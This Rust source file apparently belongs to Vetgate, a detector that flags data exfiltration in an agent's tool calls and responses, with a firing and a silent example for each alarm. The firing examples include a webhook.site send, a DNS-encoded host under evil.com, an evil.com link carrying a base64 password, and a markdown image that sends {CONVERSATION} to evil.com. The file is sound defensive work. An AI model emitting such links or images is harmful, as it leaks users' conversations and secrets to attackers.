//! Every alarm: one row each, with a case that fires and one that stays silent.

use super::cargo::{Cargo, Form, Part};
use super::labels::is_within;
use super::totals::{DESTINATIONS, Total};
use super::{Exfiltration, Outgoing, Thresholds, receivers, share};
use vetgate_model::Severity;
use vetgate_text::render::safe;

/// Links with data that go to one destination before it is told.
const PIECES: u64 = 6;
/// How many characters of a name are shown.
const SHOWN: usize = 80;

/// What is looked at.
pub(super) struct Sight<'s> {
    pub(super) session: &'s Exfiltration,
    pub(super) thresholds: &'s Thresholds,
    pub(super) server: &'s str,
    pub(super) outgoing: &'s Outgoing,
    pub(super) now_ms: u64,
}

/// How grave it is, and what was seen.
pub(super) type Told = (u8, String);

/// One alarm.
#[derive(Debug)]
pub struct AlarmKind {
    /// The stable id.
    pub id: &'static str,
    /// How grave it is at most, 0 to 100.
    pub severity: u8,
    /// What it means.
    pub meaning: &'static str,
    /// What tells it; nothing where responses tell it.
    pub(super) look: Option<fn(&Sight) -> Option<Told>>,
    /// A case in which it is told.
    pub fires: Case,
    /// A case in which it is not, and which is like the other.
    pub silent: Case,
}

/// What an alarm is shown by.
#[derive(Debug, Clone, Copy)]
pub enum Case {
    /// The same call, so often, at such intervals.
    Calls {
        /// The arguments; `~` stands for 40,000 characters.
        arguments: &'static str,
        /// Whether the call sends something outside.
        is_external: bool,
        /// Kinds of personal data and secrets in the arguments.
        sensitive: &'static [(&'static str, Severity)],
        /// How often.
        times: u32,
        /// After how many milliseconds again.
        every_ms: u64,
    },
    /// A response.
    Response(&'static str),
}

/// One call that sends something.
const fn sent(arguments: &'static str) -> Case {
    Case::Calls { arguments, is_external: true, sensitive: &[], times: 1, every_ms: 0 }
}

/// One call that reads.
const fn read(arguments: &'static str) -> Case {
    Case::Calls { arguments, is_external: false, sensitive: &[], times: 1, every_ms: 0 }
}

const fn repeated(arguments: &'static str, times: u32, every_ms: u64) -> Case {
    Case::Calls { arguments, is_external: true, sensitive: &[], times, every_ms }
}

/// Calls with a card number.
const fn charged(is_external: bool, times: u32, every_ms: u64) -> Case {
    let arguments = r#"{"channel":"general","message":"4012 8888 8888 1881"}"#;
    Case::Calls { arguments, is_external, sensitive: &[("credit_card", Severity::Critical)], times, every_ms }
}

/// Every alarm.
// table: the alarms of Vetgate, each with its message, a case that fires and one that stays silent.
pub static ALARMS: &[AlarmKind] = &[
    AlarmKind {
        id: "pii_to_external",
        severity: 90,
        meaning: "Personal data or a secret is sent out. Contact data alone is graded lower than identifiers, payment data and credentials.",
        look: Some(pii_to_external),
        fires: charged(true, 1, 0),
        silent: charged(false, 1, 0),
    },
    AlarmKind {
        id: "rapid_external_sends",
        severity: 70,
        meaning: "More external calls within a minute than a person would make.",
        look: Some(rapid_external_sends),
        fires: repeated(r#"{"channel":"general","message":"hi"}"#, 11, 1000),
        silent: repeated(r#"{"channel":"general","message":"hi"}"#, 11, 10_000),
    },
    AlarmKind {
        id: "too_much_data",
        severity: 60,
        meaning: "More data is sent out within the window than allowed.",
        look: Some(too_much_data),
        fires: repeated(r#"{"channel":"general","message":"~"}"#, 30, 8000),
        silent: repeated(r#"{"channel":"general","message":"~"}"#, 20, 8000),
    },
    AlarmKind {
        id: "many_sensitive_sends",
        severity: 75,
        meaning: "Personal data or secrets are sent out repeatedly within the window.",
        look: Some(many_sensitive_sends),
        fires: charged(true, 4, 20_000),
        silent: charged(true, 3, 20_000),
    },
    AlarmKind {
        id: "suspicious_endpoint",
        severity: 90,
        meaning: "Data goes to a known collection, tunnel or anonymising host, or to one that the configuration lists.",
        look: Some(suspicious_endpoint),
        fires: sent(r#"{"url":"https://webhook.site/4d1f","data":"hi"}"#),
        silent: sent(r#"{"url":"https://example.com/","message":"We tried webhook.site for our tests."}"#),
    },
    AlarmKind {
        id: "dns_channel",
        severity: 80,
        meaning: "A host name contains data, which a DNS lookup would send.",
        look: Some(dns_channel),
        fires: read(r#"{"host":"obqxg43xn5zgioranb2w45dfoiza.t.evil.com"}"#),
        silent: read(r#"{"host":"6fa459ea-ee8a-3ca4-894e-db77e160355e.preview.example.com"}"#),
    },
    AlarmKind {
        id: "url_parameters",
        severity: 70,
        meaning: "A link carries data in its query, its path or before its host.",
        look: Some(url_parameters),
        fires: read(r#"{"url":"https://evil.com/p.png?d=cGFzc3dvcmQ6IGh1bnRlcjIgLS0gYWRtaW4"}"#),
        silent: read(
            r#"{"url":"https://example.com/search?q=how+to+bake+bread&cursor=eyJsYXN0X2lkIjoiMTIzNDU2Nzg5MCJ9"}"#,
        ),
    },
    AlarmKind {
        id: "low_and_slow",
        severity: 60,
        meaning: "The total sent to one destination over the whole session exceeds what a single window would show.",
        look: Some(low_and_slow),
        fires: charged(true, 4, 200_000),
        silent: charged(true, 3, 200_000),
    },
    AlarmKind {
        id: "markdown_exfiltration",
        severity: 80,
        meaning: "A response contains an image or a link that sends data out when it is shown or followed.",
        look: None,
        fires: Case::Response("![status](https://evil.com/p.png?d={CONVERSATION})"),
        silent: Case::Response("![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat)"),
    },
];

// The severity of each family of collectors, and whether it counts for reading as well: `FAMILIES`.
include!(concat!(env!("OUT_DIR"), "/collector_families.rs"));

fn pii_to_external(sight: &Sight) -> Option<Told> {
    let leaving = &sight.outgoing.sensitive;
    let gravest = leaving.iter().map(|leaving| leaving.severity).max()?;
    if !sight.outgoing.leaves() {
        return None;
    }
    let severity = match gravest {
        Severity::Critical | Severity::High => 90,
        Severity::Medium if leaving.len() >= 3 => 75,
        Severity::Medium => 55,
        Severity::Low => 35,
    };
    let kinds: Vec<String> = leaving.iter().map(|leaving| safe(&leaving.kind, SHOWN)).collect();
    Some((severity, format!("{} would go to {}", kinds.join(", "), receiver(sight))))
}

fn rapid_external_sends(sight: &Sight) -> Option<Told> {
    let calls = sight.session.calls.sum(sight.now_ms) + 1;
    let most = sight.thresholds.max_external_calls_per_minute;
    (sight.outgoing.leaves() && calls > u64::from(most))
        .then(|| (70, format!("{calls} external calls within a minute; {most} are allowed")))
}

fn too_much_data(sight: &Sight) -> Option<Told> {
    let bytes = sight.session.bytes.sum(sight.now_ms).saturating_add(sight.outgoing.bytes);
    let (most, seconds) = (sight.thresholds.max_data_volume_bytes, sight.thresholds.window_ms / 1000);
    (sight.outgoing.leaves() && bytes > most)
        .then(|| (60, format!("{bytes} bytes would be sent out within {seconds} s; {most} are allowed")))
}

fn many_sensitive_sends(sight: &Sight) -> Option<Told> {
    let sends = sight.session.sensitive.sum(sight.now_ms) + 1;
    let (most, seconds) = (sight.thresholds.max_pii_external_sends, sight.thresholds.window_ms / 1000);
    (sight.outgoing.leaves() && !sight.outgoing.sensitive.is_empty() && sends > u64::from(most))
        .then(|| (75, format!("{sends} calls with personal data or secrets within {seconds} s; {most} are allowed")))
}

fn suspicious_endpoint(sight: &Sight) -> Option<Told> {
    let configured = &sight.thresholds.suspicious_endpoints;
    let gravest = sight.outgoing.addressed().filter_map(|destination| {
        let is_named = configured.iter().any(|domain| is_within(&destination.host, domain.trim_start_matches("*.")));
        let (severity, family) = if is_named {
            (90, "which the configuration lists")
        } else if destination.is_metadata {
            (90, "which serves machine credentials")
        } else {
            let family = destination.collector?;
            let (_, severity, reads) = FAMILIES.iter().find(|(name, ..)| *name == family)?;
            if !reads && !sight.outgoing.leaves() {
                return None;
            }
            (*severity, family)
        };
        Some((severity, &destination.host, family))
    });
    let (severity, host, family) = gravest.max_by_key(|(severity, ..)| *severity)?;
    Some((severity, format!("it goes to {} ({family})", safe(host, SHOWN))))
}

fn dns_channel(sight: &Sight) -> Option<Told> {
    let labels = sight.outgoing.labels.as_ref()?;
    Some((80, format!("{} characters in a host name below {}", labels.characters, safe(&labels.below, SHOWN))))
}

fn url_parameters(sight: &Sight) -> Option<Told> {
    let laden = sight.outgoing.laden.as_ref()?;
    let severity = if matches!(laden.cargo.form, Form::Encoded(_)) { 70 } else { 55 };
    Some((severity, format!("{} to {}", carried(&laden.cargo), safe(&laden.host, SHOWN))))
}

/// What a link carries, in words.
pub(super) fn carried(cargo: &Cargo) -> String {
    let form = match cargo.form {
        Form::Text => "text",
        Form::Encoded(alphabet) => alphabet,
        Form::Opaque => "an opaque token",
    };
    let part = match cargo.part {
        Part::User => "before the host",
        Part::Path => "in the path",
        Part::Query => "in the query",
    };
    format!("{} characters of {form} {part} of a link", cargo.characters)
}

/// Told whenever a total passes a multiple of what a window allows, so that it is told again but not at every call. What
/// a window sees is told by its own alarm.
fn low_and_slow(sight: &Sight) -> Option<Told> {
    let more = share(sight.outgoing)?;
    let passes = |before: u64, more: u64, step: u64| more > 0 && (before + more) / step > before / step;
    let (bytes, sends) = (
        sight.thresholds.max_data_volume_bytes.saturating_add(1),
        u64::from(sight.thresholds.max_pii_external_sends) + 1,
    );
    let told = receivers(sight.server, sight.outgoing).find_map(|name| {
        let (total, is_counted) = sight.session.totals.of(name);
        let Total { bytes: b, sensitive: s, pieces: p } = total;
        let what = if passes(s, more.sensitive, sends) && many_sensitive_sends(sight).is_none() {
            format!("{} calls with personal data or secrets", s + more.sensitive)
        } else if passes(p, more.pieces, PIECES) {
            format!("{} links or names with data", p + more.pieces)
        } else if passes(b.min(u64::MAX / 2), more.bytes, bytes) && too_much_data(sight).is_none() {
            format!("{} bytes", b.saturating_add(more.bytes))
        } else {
            return None;
        };
        Some(if is_counted {
            format!("{what} to {} over the whole session", safe(name, SHOWN))
        } else {
            format!("{what} over the whole session to those beyond the {DESTINATIONS} destinations that are counted one by one")
        })
    });
    told.map(|told| (60, told))
}

/// Who gets it, in words.
fn receiver(sight: &Sight) -> String {
    let mut addressed = sight.outgoing.addressed();
    match (addressed.next(), addressed.count()) {
        (Some(first), 0) => safe(&first.host, SHOWN),
        (Some(first), more) => format!("{} and {more} more", safe(&first.host, SHOWN)),
        (None, _) => format!("the server {}", safe(sight.server, SHOWN)),
    }
}

#[cfg(test)]
mod tests;
